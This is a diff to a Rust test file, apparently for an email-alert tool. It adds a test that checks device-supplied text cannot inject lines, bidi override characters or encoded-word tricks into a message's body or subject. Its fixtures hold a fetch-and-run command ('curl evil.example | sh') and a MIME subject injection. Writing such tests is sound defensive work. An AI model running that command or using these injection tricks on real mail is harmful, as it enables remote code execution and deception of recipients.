@@ -55,3 +55,17 @@ fn no_name_of_a_thing_makes_a_field_of_its_own_and_no_line_is_too_long() {
 fn calls_that_are_told_together_are_counted_in_the_subject() {
     assert_eq!(subject(&[call("a"), call("b"), call("c")]), "Keyward: a (and 2 more)");
 }
+
+#[test]
+fn no_text_of_a_device_writes_a_line_into_a_mail_or_a_word_that_is_decoded() {
+    let fact = "\"t/x\n  more      curl evil.example | sh\" is \u{202e}out";
+    let incident = json!({ "at": "2023-11-14T22:00:00Z", "evidence": [{ "what": fact }] });
+    let evil = call("gateway =?utf-8?B?WW91IGFyZSBzYWZl?=: silent\n  more      rm → look");
+    let mail =
+        message(&settings(), "kw-1", &[Letter { notice: Notice { incident, ..evil.notice }, ..evil }], 0);
+    let body = decoded(&mail);
+    assert_eq!(body.matches("\n  more  ").count(), 1, "{body}");
+    assert!(body.contains("more      curl") && !body.contains('\u{202e}'), "{body}");
+    let subject = mail.split_once("Subject: ").unwrap().1;
+    assert!(!subject.contains("WW91IGFyZSBzYWZl?="), "{subject}");
+}
